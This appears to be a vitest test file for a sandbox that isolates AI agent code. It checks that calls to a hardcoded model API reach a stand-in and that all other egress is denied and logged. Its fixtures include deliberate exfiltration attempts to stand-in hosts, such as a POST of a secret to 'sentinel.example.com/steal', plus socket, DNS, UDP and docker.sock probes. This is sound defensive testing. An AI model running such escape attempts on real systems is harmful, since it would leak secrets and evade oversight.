// The ways to the stand-in, and the guard on all others: whichever client an agent uses, nothing leaves and everything is listed.
import { execFileSync } from 'node:child_process';
import { beforeAll, describe, expect, test, vi } from 'vitest';
import { type Isolation, isolation, startWorker, type TrialRecord } from '../src/live/index.ts';
import { build } from './support/build.ts';
import { openShelf } from './support/lay-out.ts';
import { agent, GUARDS, job, SAY } from './support/live/trial.ts';

const shelf = openShelf('live-ways');
vi.setConfig({ testTimeout: 30_000 });
beforeAll(build, 120_000);
const best = await isolation();
const KINDS: readonly Isolation[] = best.kind === 'namespace' ? [best, GUARDS] : [GUARDS];

/** How each client asks a hardcoded https URL; each is a function body that returns the text of the answer's body. */
const CLIENTS: Readonly<Record<string, string>> = {
  fetch: "return (await fetch(url, { method: 'POST', body })).text();",
  'fetch with a Request': "return (await fetch(new Request(url, { method: 'POST', body }))).text();",
  'https.request': `const { request } = await import('node:https');
    return new Promise((ok, no) => { const r = request(url, { method: 'POST' }, a => { let t = ''; a.on('data', c => t += c).on('end', () => ok(t)); }); r.on('error', no); r.end(body); });`,
  'https.request, required, kept alive': `const { createRequire } = await import('node:module');
    const https = createRequire(import.meta.url)('https');
    const agent = new https.Agent({ keepAlive: true });
    return new Promise((ok, no) => { const r = https.request(url, { method: 'POST', agent }, a => { let t = ''; a.on('data', c => t += c).on('end', () => ok(t)); }); r.on('error', no); r.end(body); });`,
  'a TLS socket': `const { connect } = await import('node:tls');
    const { hostname, pathname } = new URL(url);
    return new Promise((ok, no) => { let t = ''; const s = connect({ host: hostname, port: 443, servername: hostname }, () => {
      if (!s.authorized) return no(new Error('not authorized'));
      s.write('POST ' + pathname + ' HTTP/1.1\\r\\nhost: ' + hostname + '\\r\\nconnection: close\\r\\ncontent-length: ' + body.length + '\\r\\n\\r\\n' + body);
    }); s.on('data', c => t += c).on('end', () => ok(t.slice(t.indexOf('{'), t.lastIndexOf('}') + 1))).on('error', no); });`,
};

const asking = (client: string): string =>
  agent({
    extra: `async function post(url, body) { ${client} }`,
    handle: `const raw = await post('https://api.openai.com/v1/chat/completions', JSON.stringify({ model: 'm', messages: [{ role: 'user', content: message }] }));
      reply(200, { reply: JSON.parse(raw).choices[0].message.content });`,
  });

const used = ({ ways }: TrialRecord): Record<string, number> => Object.fromEntries(ways.map(way => [way.name, way.used]));

describe.each(Object.entries(CLIENTS))('a hardcoded URL asked with %s', (_, client) => {
  test('reaches the stand-in', async () => {
    const record = await startWorker(job({ root: shelf.layOut({ 'agent.mjs': asking(client) }) }), { isolation: GUARDS });
    expect(record.problem).toBeUndefined();
    expect(record.treatment.exchanges[0]?.headers.host).toBe('api.openai.com');
    expect(record.treatment.replies[0]?.text).toContain(record.treatment.nonce);
    expect(used(record)).toEqual({ 'base-url': 0, 'node-preload': 2, 'python-preload': 0, proxy: 0 });
    expect(record.treatment.egress).toEqual([]);
  });
});

/** Tries to send a secret out in every way that Node offers, and says how each ended. */
const ESCAPES = `
import { request } from 'node:http';
import { connect as connectTls } from 'node:tls';
import { connect } from 'node:net';
import { lookup, promises } from 'node:dns';
import { createSocket } from 'node:dgram';
import { connect as connectTwo } from 'node:http2';
const event = (thing, ...names) => new Promise(ok => { for (const name of names) thing.once(name, value => ok(name + ' ' + (value?.code ?? ''))); });
const tries = {
  fetch: () => fetch('https://sentinel.example.com/steal?key=SECRET', { method: 'POST', body: 'the loot' }).then(async r => r.status + ' ' + await r.text(), e => e.cause?.code ?? String(e)),
  http: () => { const r = request('http://plain.example.com:8099/x'); r.end(); return event(r, 'error', 'response'); },
  tls: () => { const s = connectTls(8443, 'grpc.example.com'); s.write('PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'); return event(s, 'error', 'close'); },
  net: () => event(connect(5432, 'db.example.com'), 'error', 'connect'),
  ip: () => event(connect({ host: '192.0.2.7', port: 6379 }), 'error', 'connect'),
  socket: () => event(connect('/var/run/docker.sock'), 'error', 'connect'),
  dns: () => new Promise(ok => lookup('secret.dns.example.com', e => ok(e?.code))),
  names: () => promises.resolveTxt('txt.example.com').catch(e => e.code),
  udp: () => new Promise(ok => { const s = createSocket('udp4'); s.send('x', 8125, 'statsd.example.com', e => { s.close(); ok(e?.code); }); }),
  two: () => { const s = connectTwo('https://two.example.com'); return event(s, 'error', 'connect'); },
};
const results = async () => Object.fromEntries(await Promise.all(Object.entries(tries).map(async ([name, run]) => [name, await Promise.race([run(), new Promise(ok => setTimeout(ok, 3000, 'nothing'))])])));
`;

describe.each(KINDS)('$kind', kind => {
  const escaping = (): string =>
    shelf.layOut({
      'agent.mjs': agent({
        extra: ESCAPES,
        handle:
          "const words = await ask(message); reply(200, { reply: words, results: message.startsWith('Hello') ? 0 : await results() });",
      }),
    });

  test('every connection to elsewhere is denied and listed', async () => {
    const { treatment, problem } = await startWorker(job({ root: escaping() }), { isolation: kind });
    expect(problem).toBeUndefined();
    const hosts = treatment.egress.map(one => `${one.host}:${one.port} ${one.outcome}`).sort();
    for (const host of [
      'sentinel.example.com:443',
      'plain.example.com:8099',
      'grpc.example.com:8443',
      'db.example.com:5432',
      '192.0.2.7:6379',
    ])
      expect(hosts).toContain(`${host} denied`);
    for (const host of [
      'unix:/var/run/docker.sock:null',
      'secret.dns.example.com:53',
      'txt.example.com:53',
      'statsd.example.com:8125',
      'two.example.com:443',
    ])
      expect(hosts).toContain(`${host} denied`);
    expect(treatment.egress.find(one => one.host === 'sentinel.example.com')).toMatchObject({
      method: 'POST',
      url: 'https://sentinel.example.com/steal?key=SECRET',
      body: 'the loot',
    });
    const { results } = JSON.parse(treatment.replies[0]?.body ?? '{}') as { results: Record<string, string> };
    expect(results).toEqual({
      fetch: 'ECONNRESET',
      http: 'error ECONNRESET',
      tls: expect.stringMatching(/^(?:error|close)/),
      net: 'error ECONNREFUSED',
      ip: 'error ECONNREFUSED',
      socket: 'error ECONNREFUSED',
      dns: 'ENOTFOUND',
      names: 'ENOTFOUND',
      udp: 'ENETUNREACH',
      // The session is there as soon as the socket is; its requests fail.
      two: expect.stringMatching(/^(?:connect|error)/),
    });
  });

  test('the scripted world answers in the place of another host', async () => {
    const world = { kind: 'answer', status: 203, text: '{"temperature": 21}' } as const;
    const { control, treatment } = await startWorker(job({ root: escaping(), world }), { isolation: kind });
    const { results } = JSON.parse(treatment.replies[0]?.body ?? '{}') as { results: Record<string, string> };
    expect(results.fetch).toBe('203 {"temperature": 21}');
    expect(treatment.egress.find(one => one.host === 'sentinel.example.com')?.outcome).toBe('answered');
    expect(control.egress).toEqual([]);
  });
});

test.runIf(best.kind === 'namespace')('what no preload reaches cannot leave either', async () => {
  const extra = "import { spawnSync } from 'node:child_process';";
  const handle =
    "const words = await ask(message); const { stdout } = spawnSync('sh', ['-c', 'ip -o addr; ip route'], { env: { PATH: process.env.PATH } }); reply(200, { reply: words, ip: String(stdout) });";
  const { treatment } = await startWorker(job({ root: shelf.layOut({ 'agent.mjs': agent({ extra, handle }) }) }));
  const { ip } = JSON.parse(treatment.replies[0]?.body ?? '{}') as { ip: string };
  expect(ip).toMatch(/127\.0\.0\.1/);
  expect(ip).not.toMatch(/\b(?:eth|en|wl)\w+\s+inet|default/);
});

const hasPython = ((): boolean => {
  try {
    execFileSync('python3', ['--version'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
})();

test.runIf(hasPython).each(KINDS)('Python: a hardcoded URL reaches the stand-in, and nothing else leaves ($kind)', async kind => {
  const code = `
import json, os, socket, sys, urllib.request
message = sys.argv[1]
body = json.dumps({"model": "m", "messages": [{"role": "user", "content": message}]}).encode()
request = urllib.request.Request("https://api.openai.com/v1/chat/completions", body, {"authorization": "Bearer " + os.environ["OPENAI_API_KEY"]})
print(json.load(urllib.request.urlopen(request))["choices"][0]["message"]["content"])
for attempt in ("https://sentinel.example.com/steal?key=SECRET", "http://plain.example.com/x"):
    try:
        print(urllib.request.urlopen(attempt).read().decode())
    except Exception as error:
        print("failed", type(error).__name__)
try:
    socket.create_connection(("db.example.com", 5432))
except OSError as error:
    print("refused", error.errno)
`;
  const root = shelf.layOut({ 'agent.py': code });
  const way = { kind: 'command', run: ['python3', 'agent.py'], input: 'argument', reply: 'stdout' } as const;
  const record = await startWorker(job({ root, way, acts: [SAY] }), { isolation: kind });
  expect(record.problem).toBeUndefined();
  expect(record.treatment.replies[0]).toMatchObject({ status: 0, end: 'answered' });
  expect(record.treatment.replies[0]?.body).toMatch(/refused 111/);
  expect(record.treatment.egress.map(one => `${one.url ?? one.host} ${one.outcome}`)).toEqual([
    'https://sentinel.example.com/steal?key=SECRET denied',
    'http://plain.example.com/x denied',
    'db.example.com denied',
  ]);
  // urllib heeds a proxy where there is one.
  expect(used(record)[kind.kind === 'namespace' ? 'python-preload' : 'proxy']).toBe(2);
  expect(record.ways.find(way => way.name === 'python-preload')?.loaded).toBe(2);
});
